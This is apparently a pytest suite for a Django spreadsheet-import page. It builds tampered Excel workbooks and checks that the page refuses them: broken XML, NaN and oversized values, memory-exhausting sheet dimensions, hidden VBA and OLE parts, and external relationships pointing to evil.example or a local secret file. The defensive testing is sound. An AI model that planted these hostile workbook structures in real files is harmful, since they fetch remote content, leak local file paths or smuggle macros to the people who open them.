"""Workbooks edited by hand or by an attacker: every one is refused on the upload page, never a 500.

Each case starts from a real template download and edits its zip, as someone with a text editor
and ``zip`` would: broken XML, numbers Python cannot read, sheets far wider or longer than the
template, parts the template never has (macros, external links) hidden under innocent names.
"""

import re
import tracemalloc

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from openpyxl.utils import get_column_letter

from programs.models import Indicator
from sheets.exports.entry_template import HEADER_ROW, RESULT_COLUMNS, RESULTS_SHEET
from sheets.forms import ImportUploadForm
from sheets.imports import reader, upload

from .helpers import download_template, history_count, rezip

RESULTS_PART = "xl/worksheets/sheet1.xml"  # openpyxl writes the first sheet here
WORKBOOK_RELS = "xl/_rels/workbook.xml.rels"
CONTENT_TYPES = "[Content_Types].xml"
REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
MB = 1024 * 1024


@pytest.fixture
def template(client, staff_user) -> bytes:
    client.force_login(staff_user)
    return download_template(client)


def _upload(client, data: bytes):
    return client.post(reverse("sheets:import_upload"), {"file": SimpleUploadedFile("入力.xlsx", data)})


def _assert_refused(client, data: bytes, *fragments: str) -> str:
    before = history_count()
    response = _upload(client, data)
    page = response.content.decode()
    assert response.status_code == 200
    assert "Excel で一括入力" in page  # the upload page, with the form's error on it
    for fragment in fragments:
        assert fragment in page, fragment
    assert "この内容で反映する" not in page
    assert history_count() == before
    assert "sheets_import" not in client.session
    return page


def _set_cell(xml: str, cell: str, value: str) -> str:
    """Replace the <v> of a numeric cell, keeping everything else as the template wrote it."""
    pattern = re.compile(rf'(<c r="{cell}"[^>]*?)\s*(/>|>.*?</c>)')
    assert pattern.search(xml), cell
    return pattern.sub(lambda m: f"{m.group(1)}><v>{value}</v></c>", xml, count=1)


def _add_rows(xml: str, rows: str, *, dimension: str | None) -> str:
    xml = xml.replace("</sheetData>", rows + "</sheetData>")
    if dimension is None:
        return re.sub(r"<dimension [^>]*/>", "", xml)
    return re.sub(r'<dimension ref="[^"]*"', f'<dimension ref="{dimension}"', xml)


def _next_row(xml: str) -> int:
    return max(int(row) for row in re.findall(r'<row r="(\d+)"', xml)) + 1


def _add_override(part: str, content_type: str):
    return lambda xml: xml.replace("</Types>", f'<Override PartName="/{part}" ContentType="{content_type}"/></Types>')


def _add_relationship(rel_type: str, target: str, *, external: bool = False):
    mode = ' TargetMode="External"' if external else ""
    element = f'<Relationship Id="rId99" Type="{rel_type}" Target="{target}"{mode}/>'
    return lambda xml: xml.replace("</Relationships>", element + "</Relationships>")


# -- Item 5: any failure to read the workbook is 「読み込めませんでした」 with the reason ------------


UNREADABLE = {
    "broken_xml_in_a_sheet": (
        lambda t: rezip(t, edit={RESULTS_PART: lambda xml: xml.replace("</sheetData>", "<row><c></sheetData>")}),
        ("読み込めませんでした", RESULTS_PART, "XML が壊れています"),
    ),
    "broken_xml_in_the_styles": (
        lambda t: rezip(t, edit={"xl/styles.xml": lambda xml: xml[: len(xml) // 2]}),
        ("読み込めませんでした", "xl/styles.xml", "XML が壊れています"),
    ),
    "nan_in_a_numeric_cell": (
        lambda t: rezip(t, edit={RESULTS_PART: lambda xml: _set_cell(xml, "A5", "NaN")}),
        ("読み込めませんでした", f"シート「{RESULTS_SHEET}」のセル A5", "「NaN」", "数値"),
    ),
    "inf_in_a_numeric_cell": (
        lambda t: rezip(t, edit={RESULTS_PART: lambda xml: _set_cell(xml, "A5", "inf")}),
        ("読み込めませんでした", "セル A5", "「inf」"),
    ),
    "an_overflowing_number": (
        lambda t: rezip(t, edit={RESULTS_PART: lambda xml: _set_cell(xml, "G5", "1e999")}),
        ("読み込めませんでした", "セル G5", "「1e999」"),
    ),
    "a_boolean_that_is_not_one": (
        lambda t: rezip(
            t, edit={RESULTS_PART: lambda xml: _set_cell(xml, "A5", "2").replace('r="A5" s="6" t="n"', 'r="A5" t="b"')}
        ),
        ("読み込めませんでした",),
    ),
    "a_missing_sheet_part": (
        lambda t: rezip(t, drop=(RESULTS_PART,)),
        ("読み込めませんでした", RESULTS_PART, "ありません"),
    ),
    "a_truncated_zip": (lambda t: t[: len(t) * 2 // 3], ("読み込めませんでした", "ZIP")),
    "broken_content_types": (
        lambda t: rezip(t, edit={CONTENT_TYPES: lambda xml: xml.replace("</Types>", "")}),
        ("読み込めませんでした", CONTENT_TYPES),
    ),
    "an_xml_entity_declaration": (
        lambda t: rezip(
            t,
            edit={
                RESULTS_PART: lambda xml: '<!DOCTYPE x [<!ENTITY a "aaaa">]>' + xml.replace("<is><t>年度", "<is><t>&a;")
            },
        ),
        ("読み込めませんでした", RESULTS_PART),
    ),
}


@pytest.mark.django_db
@pytest.mark.parametrize("case", sorted(UNREADABLE))
def test_an_unreadable_workbook_is_refused_with_the_reason_and_nothing_is_written(client, template, case):
    make, fragments = UNREADABLE[case]
    _assert_refused(client, make(template), *fragments)


@pytest.mark.django_db
def test_a_sheet_removed_in_excel_is_still_named_in_the_preview(client, template):
    """Deleting a whole sheet leaves a readable workbook: the preview names the missing sheet."""
    import io

    from openpyxl import load_workbook

    workbook = load_workbook(io.BytesIO(template))
    del workbook[RESULTS_SHEET]
    buffer = io.BytesIO()
    workbook.save(buffer)
    response = _upload(client, buffer.getvalue())
    assert [e.message for e in response.context["preview"].errors] == [
        f"シート「{RESULTS_SHEET}」がありません。シート名を変えたり削除したりしないでください。"
    ]


# -- Item 6: read only the template's columns and rows; refuse anything wider or longer -----------


def _wide_rows(count: int) -> str:
    return "".join(f'<row r="{row}"><c r="XFD{row}" t="n"><v>1</v></c></row>' for row in range(6, 6 + count))


def _wide_workbook(template: bytes, *, dimension: str | None) -> bytes:
    return rezip(template, edit={RESULTS_PART: lambda xml: _add_rows(xml, _wide_rows(5000), dimension=dimension)})


def _measure(data: bytes) -> tuple[ImportUploadForm, int]:
    form = ImportUploadForm({}, {"file": SimpleUploadedFile("入力.xlsx", data)})
    tracemalloc.start()
    try:
        form.is_valid()
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    return form, peak


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("dimension", "fragment"),
    [
        ("A1:XFD5005", "使用範囲（A1:XFD5005）"),  # the attack as found: the dimension says how wide
        ("A1:H5", "セル XFD6"),  # the dimension lies: the cells themselves are checked
        (None, "セル XFD6"),  # no dimension at all
    ],
)
def test_a_sheet_far_wider_than_the_template_is_refused_within_100_mb(client, template, dimension, fragment):
    data = _wide_workbook(template, dimension=dimension)
    assert len(data) < 120_000  # the reported file was 62 KB
    form, peak = _measure(data)
    assert not form.is_valid()
    message = form.errors["file"][0]
    assert f"シート「{RESULTS_SHEET}」" in message and fragment in message
    assert "範囲" in message
    assert peak < 100 * MB, f"peak {peak / MB:.0f} MB"
    _assert_refused(client, data, fragment)


@pytest.mark.django_db
def test_a_sheet_longer_than_the_plan_allows_is_refused(client, template):
    indicators = Indicator.objects.filter(item__area__plan__name="第8期").count()
    last_allowed = HEADER_ROW + indicators + reader.ROW_MARGIN
    rows = "".join(f'<row r="{row}"><c r="B{row}" t="n"><v>1</v></c></row>' for row in range(6, last_allowed + 2))
    data = rezip(template, edit={RESULTS_PART: lambda xml: _add_rows(xml, rows, dimension="A1:H5")})
    page = _assert_refused(client, data, f"セル B{last_allowed + 1}", "範囲")
    assert f"{last_allowed}行目" in page

    # The same number of rows within the limit is read (blank-looking rows are ignored).
    rows = "".join(f'<row r="{row}"><c r="H{row}" t="n"/></row>' for row in range(6, last_allowed + 1))
    data = rezip(template, edit={RESULTS_PART: lambda xml: _add_rows(xml, rows, dimension=f"A1:H{last_allowed}")})
    response = _upload(client, data)
    assert response.context["preview"].errors == ()


@pytest.mark.django_db
def test_a_few_columns_to_the_right_of_the_template_are_read_and_ignored(client, template):
    last = get_column_letter(len(RESULT_COLUMNS) + reader.COLUMN_MARGIN)

    def add_row(xml: str) -> str:
        # Below the template's rows: a row listed before them would be a row out of order.
        row = _next_row(xml)
        cells = f'<row r="{row}"><c r="{last}{row}" t="n"><v>1</v></c></row>'
        return _add_rows(xml, cells, dimension=f"A1:{last}{row}")

    data = rezip(template, edit={RESULTS_PART: add_row})
    response = _upload(client, data)
    assert response.context["preview"].errors == ()


# -- Item 7: parts judged by content type and relationship, never by file name ------------------


MACRO = "application/vnd.ms-office.vbaProject"
VBA_RELATIONSHIP = "http://schemas.microsoft.com/office/2006/relationships/vbaProject"
OLE_OBJECT = "application/vnd.openxmlformats-officedocument.oleObject"
EVIL_TEMPLATE = "https://evil.example/t.xltm"
EXTERNAL_LINK = "application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml"
FOREIGN = {
    "vba_under_an_innocent_name": (
        lambda t: rezip(
            t,
            add={"xl/code.bin": b"\xd0\xcf\x11\xe0" + b"\0" * 200},
            edit={
                CONTENT_TYPES: _add_override("xl/code.bin", MACRO),
                WORKBOOK_RELS: _add_relationship(
                    "http://schemas.microsoft.com/office/2006/relationships/vbaProject", "code.bin"
                ),
            },
        ),
        upload.ERROR_MACROS,
    ),
    "vba_under_an_innocent_name_without_a_content_type": (
        lambda t: rezip(t, add={"xl/code.bin": b"\xd0\xcf\x11\xe0" + b"\0" * 200}),
        "xl/code.bin",
    ),
    "macro_enabled_workbook_content_type": (
        lambda t: rezip(
            t,
            edit={
                CONTENT_TYPES: lambda xml: xml.replace(
                    "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
                    "application/vnd.ms-excel.sheet.macroEnabled.main+xml",
                )
            },
        ),
        upload.ERROR_MACROS,
    ),
    "external_link_under_an_innocent_name": (
        lambda t: rezip(
            t,
            add={
                "xl/links/el1.xml": '<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"/>',
                "xl/links/_rels/el1.xml.rels": (
                    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
                    f'<Relationship Id="rId1" Type="{REL}/externalLinkPath" Target="file:///C:/secret.xlsx" '
                    'TargetMode="External"/></Relationships>'
                ),
            },
            edit={
                CONTENT_TYPES: _add_override("xl/links/el1.xml", EXTERNAL_LINK),
                WORKBOOK_RELS: _add_relationship(f"{REL}/externalLink", "links/el1.xml"),
            },
        ),
        upload.ERROR_EXTERNAL_LINKS,
    ),
    "external_link_part_typed_as_plain_xml": (
        lambda t: rezip(
            t,
            add={
                "xl/links/el1.xml": '<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"/>'
            },
        ),
        "xl/links/el1.xml",
    ),
    "attached_template_fetched_from_outside": (
        lambda t: rezip(
            t,
            edit={
                WORKBOOK_RELS: _add_relationship(
                    f"{REL}/attachedTemplate", "https://evil.example/t.xltm", external=True
                )
            },
        ),
        upload.ERROR_EXTERNAL_LINKS,
    ),
    "external_image_in_a_sheet": (
        lambda t: rezip(
            t,
            add={
                "xl/worksheets/_rels/sheet1.xml.rels": (
                    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
                    f'<Relationship Id="rId1" Type="{REL}/image" Target="https://evil.example/p.png" '
                    'TargetMode="External"/></Relationships>'
                )
            },
        ),
        upload.ERROR_EXTERNAL_LINKS,
    ),
    "ole_object_in_a_sheet": (
        lambda t: rezip(
            t,
            add={
                "xl/embeddings/oleObject1.bin": b"\0" * 64,
                "xl/worksheets/_rels/sheet1.xml.rels": (
                    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
                    f'<Relationship Id="rId1" Type="{REL}/oleObject" Target="../embeddings/oleObject1.bin"/>'
                    "</Relationships>"
                ),
            },
            edit={
                CONTENT_TYPES: _add_override(
                    "xl/embeddings/oleObject1.bin", "application/vnd.openxmlformats-officedocument.oleObject"
                )
            },
        ),
        "oleObject1.bin",
    ),
    "custom_ribbon_ui": (
        lambda t: rezip(
            t,
            add={"customUI/customUI14.xml": "<customUI/>"},
            edit={
                "_rels/.rels": _add_relationship(
                    "http://schemas.microsoft.com/office/2007/relationships/ui/extensibility", "customUI/customUI14.xml"
                )
            },
        ),
        "customUI/customUI14.xml",
    ),
}


@pytest.mark.django_db
@pytest.mark.parametrize("case", sorted(FOREIGN))
def test_a_part_the_template_does_not_have_is_refused_whatever_its_name(client, template, case):
    make, fragment = FOREIGN[case]
    _assert_refused(client, make(template), fragment)


@pytest.mark.django_db
def test_a_hyperlink_typed_into_a_cell_is_accepted(client, template):
    """Excel turns a typed URL into a hyperlink; the import reads only the cell's text."""
    import io

    from openpyxl import load_workbook

    workbook = load_workbook(io.BytesIO(template))
    workbook[RESULTS_SHEET]["H5"].hyperlink = "https://www.fukushi.metro.tokyo.lg.jp/"
    buffer = io.BytesIO()
    workbook.save(buffer)
    response = _upload(client, buffer.getvalue())
    assert response.context["preview"].errors == ()


@pytest.mark.django_db
def test_the_workbook_saved_again_by_libreoffice_is_accepted(client, template, soffice, tmp_path):
    """A real spreadsheet client adds its own parts (shared strings, custom properties): all allowed."""
    from .conftest import convert

    source = tmp_path / "入力.xlsx"
    source.write_bytes(template)
    outdir = tmp_path / "out"
    outdir.mkdir()
    saved = convert(soffice, source, "xlsx:Calc MS Excel 2007 XML", outdir).read_bytes()
    assert saved != template
    response = _upload(client, saved)
    assert response.context["preview"].errors == ()
    assert response.context["preview"].changes == ()


def test_the_allowed_content_types_are_those_of_the_template_and_a_plain_save():
    assert MACRO not in upload.ALLOWED_CONTENT_TYPES
    assert EXTERNAL_LINK not in upload.ALLOWED_CONTENT_TYPES
    assert "application/xml" not in upload.ALLOWED_CONTENT_TYPES
